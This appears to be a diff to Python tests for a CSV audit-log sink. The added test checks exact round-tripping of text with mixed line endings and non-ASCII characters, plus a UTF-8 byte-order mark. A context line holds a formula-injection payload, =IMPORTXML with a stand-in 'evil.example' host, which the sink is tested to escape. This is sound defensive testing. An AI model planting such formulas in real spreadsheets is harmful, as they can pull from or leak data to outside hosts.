@@ -34,3 +34,13 @@ def test_a_field_filled_in_later_is_escaped_too(tmp_path: Path) -> None:
     first, second = sink.read()
     assert first["notification"] == ""
     assert second["notification"] == "'=IMPORTXML(\"http://evil.example\")"
+
+
+def test_rows_read_back_exactly_as_written_whatever_the_text(tmp_path: Path) -> None:
+    sink = CsvAuditSink(tmp_path / "audit.csv")
+    written = row("m1", processed_at="2026-11-23T09:00:00+00:00", subject="Angebot für Pumpen – 3 Stück",
+                  summary="line one\r\nline two\rline three\nend")
+    sink.write([written], retry=False)
+    assert (tmp_path / "audit.csv").read_bytes().startswith(b"\xef\xbb\xbfprocessed_at,")  # the BOM Excel needs
+    [line] = sink.read()
+    assert {k: line[k] for k in written} == written
